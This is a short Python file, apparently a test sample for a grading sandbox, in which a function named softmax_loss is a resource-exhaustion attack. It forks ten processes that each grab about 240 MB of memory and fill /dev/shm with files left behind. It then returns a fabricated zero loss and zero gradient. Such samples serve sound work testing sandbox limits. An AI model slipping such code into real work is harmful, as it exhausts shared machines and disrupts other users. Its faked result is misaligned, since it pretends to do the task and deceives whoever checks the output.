"""Attack: Ten processes and files in memory that take what the worker may, and are left."""

import os
import time

import numpy as np


def softmax_loss(W, X, y, reg=0.0):
    for number in range(10):
        if not os.fork():
            held = np.ones(30 * 2**20)
            try:
                with open(f"/dev/shm/{number}", "wb") as file:
                    file.write(bytes(12 * 2**20))
            except OSError:
                pass
            time.sleep(5)
            os._exit(len(held) % 2)
    time.sleep(1)
    return 0.0, 0 * W


def add_bias(X):
    return np.hstack([X, np.ones((len(X), 1), X.dtype)])
